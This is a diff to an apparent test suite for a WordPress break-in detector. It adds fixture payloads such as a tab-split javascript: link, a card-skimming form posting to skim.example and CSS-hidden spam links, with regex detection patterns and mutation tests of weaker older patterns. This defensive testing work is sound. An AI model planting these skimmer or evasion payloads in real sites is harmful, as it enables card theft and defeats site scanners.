@@ -113,8 +113,11 @@ const DROP_LOOP = /^for kind in TRIGGER EVENT; do\n.*\n.*\ndone\n/m;
 const ROLES_CHECK = /^(# Roles that can take over the site.*\n.*\n)(?:.*\n){3}/m;
 /** The roles the roles check must list on the broken-into site: core's two, then what ATTACK widened or made. */
 const ROLES_TAKING_OVER = ['administrator', 'editor', WIDENED_ROLE, GLOB_ROLE, FLAG_ROLE, UPPER_ROLE, HTML_ROLE, FORGED_ROLE];
+/** The content pattern's javascript: with white space between its letters before review r122a (java and script only). */
+const SPACED_SCHEME_BEFORE_R122A = 'java[[:space:]]*script[[:space:]]*:';
 /** The content pattern's alternatives for a tab or newline inside javascript: (browsers strip them), as the page prints them. */
-const TAB_REFERENCES = '|java[[:space:]]*script[[:space:]]*:|&#0*(9|10|13)([^0-9]|$)|&#x0*[9ad]([^0-9a-f]|$)|&(tab|newline);';
+const TAB_REFERENCES =
+  '|j[[:space:]]{0,9}a[[:space:]]{0,9}v[[:space:]]{0,9}a[[:space:]]{0,9}s[[:space:]]{0,9}c[[:space:]]{0,9}r[[:space:]]{0,9}i[[:space:]]{0,9}p[[:space:]]{0,9}t[[:space:]]{0,9}:|&#0*(9|10|13)([^0-9]|$)|&#x0*[9ad]([^0-9a-f]|$)|&(tab|newline);';
 /** The content pattern's character-reference alternatives (a letter or colon written as &#...), as the page prints them: the proofs swap them. */
 const CHARACTER_REFERENCES =
   '&#(x0*(3a|[46][1-9a-f]|[57][0-9a])([^0-9a-f]|$)|0*(58|6[5-9]|[7-9][0-9]|1[01][0-9]|12[0-2])([^0-9]|$))|&colon;';
@@ -132,6 +135,14 @@ const INJECTED_DISGUISED = {
   gtInValue: {name: 'wpc_gallery', value: '<img alt="a>b" onerror=fetch(1)>', missed: 'the handler after a > inside a quoted value'},
   entityLaterLetter: {name: 'wpc_deal', value: '<a href="jav&#x61;script:fetch(1)">deal</a>', missed: 'a later letter as a reference'},
   entityTab: {name: 'wpc_promo', value: '<a href="java&#9;script:fetch(1)">promo</a>', missed: 'a tab as a reference'},
+  // A raw tab anywhere in the scheme (review r122a M3): browsers strip it, so this is javascript: too
+  rawTab: {name: 'wpc_coupon', value: '<a href="jav\tascript:fetch(1)">coupon</a>', missed: 'a raw tab inside javascript:'},
+  // A card skimmer needs no script on the page (review r122a M3): a form that posts elsewhere
+  formSkimmer: {
+    name: 'wpc_checkout',
+    value: '<form action="https://skim.example/c" method="post"><input name="card"></form>',
+    missed: 'a form posting elsewhere',
+  },
 };
 /**
  * PHP kept in the database (review r59 H1): a Code Snippets table (the plugin's Code_Snippets_DB registers
@@ -265,12 +276,21 @@ const HIDDEN_SPAM = [
     how: 'opacity 0.0',
     link: '<p style="opacity:0.0;position:absolute"><a href="https://pills.example/">pills</a></p>',
   },
+  // Units other than px (review r122a M3)
+  {page: 'Our partners', how: 'text at 0.1em', link: '<span style="font-size:0.1em"><a href="https://pills.example/">pills</a></span>'},
+  {
+    page: 'Our awards',
+    how: 'off-screen by 50vw',
+    link: '<div style="position:absolute;left:-50vw"><a href="https://pills.example/">pills</a></div>',
+  },
 ];
 /** A link hidden by CSS in a widget's option, where no date shows it (review r121a M1). */
 const HIDDEN_WIDGET = {name: 'wpc_footer_links', value: '<div style="display:none"><a href="https://pills.example/">pills</a></div>'};
-/** The hidden-link search as the page printed it before review r119a and before review r121a: the proofs swap them in. */
+/** The hidden-link search as the page printed it before reviews r119a, r121a and r122a: the proofs swap them in. */
 const HIDDEN_PATTERN_BEFORE_R119A =
   'display[[:space:]]*:[[:space:]]*none|visibility[[:space:]]*:[[:space:]]*hidden|(height|width|font-size|opacity)[[:space:]]*:[[:space:]]*0[^.0-9]|(left|top|text-indent)[[:space:]]*:[[:space:]]*-([0-9]{3,}|[0-9]{2,}r?em)|<[a-z][^>]*[[:space:]]hidden[[:space:]>=/]|clip(-path)?[[:space:]]*:';
+const HIDDEN_PATTERN_BEFORE_R122A =
+  'display[[:space:]]*:[^;"}]{0,40}none|visibility[[:space:]]*:[[:space:]]*(hidden|collapse)|(^|[^-a-z]|max-)(height|width|font-size)[[:space:]]*:[[:space:]]*(0[^.0-9]|1px)|font-size[[:space:]]*:[[:space:]]*0?[.][0-9]+px|(opacity|scale)[[:space:]]*[:(][[:space:]]*(0?[.]0|0([^.0-9]|$))|(left|right|top|bottom|inset|text-indent)[[:space:]]*:[[:space:]]*-([0-9]{3,}|[0-9]{2,}r?em)|translate[xyz3d]*[(][[:space:]]*-[0-9]{3,}|<[a-z][^<>]{0,400}[[:space:]]hidden[[:space:]>=/]|clip(-path)?[[:space:]]*:|<noscript';
 const HIDDEN_PATTERN_BEFORE_R121A =
   'display[[:space:]]*:[[:space:]]*none|visibility[[:space:]]*:[[:space:]]*hidden|(^|[^-a-z]|max-)(height|width|font-size|opacity)[[:space:]]*:[[:space:]]*(0[^.0-9]|1px)|scale[(][[:space:]]*0[[:space:]]*[,)]|(left|top|text-indent)[[:space:]]*:[[:space:]]*-([0-9]{3,}|[0-9]{2,}r?em)|<[a-z][^>]*[[:space:]]hidden[[:space:]>=/]|clip(-path)?[[:space:]]*:';
 /** Swaps the page's H line for `pattern`. */
@@ -978,7 +998,7 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
     ctx.expect(
       missedDisguised.length === 0,
       LOADING_CHECKS,
-      `the searches also find a handler stuck to a quoted attribute in the option ${INJECTED_DISGUISED.quotedHandler.name}, one after a > inside a quoted value in ${INJECTED_DISGUISED.gtInValue.name}, &#106 without its semicolon in ${INJECTED_DISGUISED.entityNoSemicolon.name}, jav&#x61;script: in ${INJECTED_DISGUISED.entityLaterLetter.name} and java&#9;script: in ${INJECTED_DISGUISED.entityTab.name}`,
+      `the searches also find a handler stuck to a quoted attribute in the option ${INJECTED_DISGUISED.quotedHandler.name}, one after a > inside a quoted value in ${INJECTED_DISGUISED.gtInValue.name}, &#106 without its semicolon in ${INJECTED_DISGUISED.entityNoSemicolon.name}, jav&#x61;script: in ${INJECTED_DISGUISED.entityLaterLetter.name}, java&#9;script: in ${INJECTED_DISGUISED.entityTab.name}, jav(tab)ascript: in ${INJECTED_DISGUISED.rawTab.name} and a form posting elsewhere in ${INJECTED_DISGUISED.formSkimmer.name}`,
       () => `the searches for injected code missed ${missedDisguised.join(', ')}:\n${loaded}`,
     );
     ctx.expect(
@@ -1349,19 +1369,26 @@ done < <(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role) 
       // The two comment lines, H and the posts query's two lines
       edit: replace(/^# Links hidden by CSS.*\n.*\n.*\n.*\n.*\n/m, ''),
       expect:
-        /did not list the page "Our team", the page "Our history", the page "Our values", the page "Our story", the page "Our mission" with a link hidden by CSS/,
+        /did not list the page "Our team", the page "Our history", the page "Our values", the page "Our story", the page "Our mission", the page "Our partners", the page "Our awards" with a link hidden by CSS/,
     },
     {
       what: 'search for links hidden by CSS with the pattern before review r119a (no 1px box, no scale(0))',
       ref: LOADING_CHECKS,
       edit: withHiddenPattern(HIDDEN_PATTERN_BEFORE_R119A),
-      expect: /did not list the page "Our history", the page "Our values", the page "Our story", the page "Our mission" with a link/,
+      expect:
+        /did not list the page "Our history", the page "Our values", the page "Our story", the page "Our mission", the page "Our partners", the page "Our awards" with a link/,
     },
     {
       what: 'search for links hidden by CSS with the pattern before review r121a (nothing off to the right, no opacity 0.0)',
       ref: LOADING_CHECKS,
       edit: withHiddenPattern(HIDDEN_PATTERN_BEFORE_R121A),
-      expect: /did not list the page "Our story", the page "Our mission" with a link/,
+      expect: /did not list the page "Our story", the page "Our mission", the page "Our partners", the page "Our awards" with a link/,
+    },
+    {
+      what: 'search for links hidden by CSS with the pattern before review r122a (font sizes in px only, offsets in px or em only)',
+      ref: LOADING_CHECKS,
+      edit: withHiddenPattern(HIDDEN_PATTERN_BEFORE_R122A),
+      expect: /did not list the page "Our partners", the page "Our awards" with a link/,
     },
     {
       what: 'search for links hidden by CSS in posts only (review r121a M1)',
@@ -1413,7 +1440,19 @@ done < <(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role) 
       what: 'no search for a tab or newline in the scheme (the pattern before review r118a F1)',
       ref: LOADING_CHECKS,
       edit: replace(TAB_REFERENCES, ''),
-      expect: /missed a tab as a reference in wpc_promo:/,
+      expect: /missed a tab as a reference in wpc_promo, a raw tab inside javascript: in wpc_coupon:/,
+    },
+    {
+      what: 'allow white space between java and script only (the pattern before review r122a M3)',
+      ref: LOADING_CHECKS,
+      edit: replace(TAB_REFERENCES, TAB_REFERENCES.replace(/^\|[^|]*/, `|${SPACED_SCHEME_BEFORE_R122A}`)),
+      expect: /missed a raw tab inside javascript: in wpc_coupon:/,
+    },
+    {
+      what: 'leave forms out of the content pattern (before review r122a M3)',
+      ref: LOADING_CHECKS,
+      edit: replace('<(object|embed|base|form)[[:space:]>]', '<(object|embed|base)[[:space:]>]'),
+      expect: /missed a form posting elsewhere in wpc_checkout:/,
     },
     {
       what: 'search for a first letter j written as a reference only (the pattern before review r115a F1)',
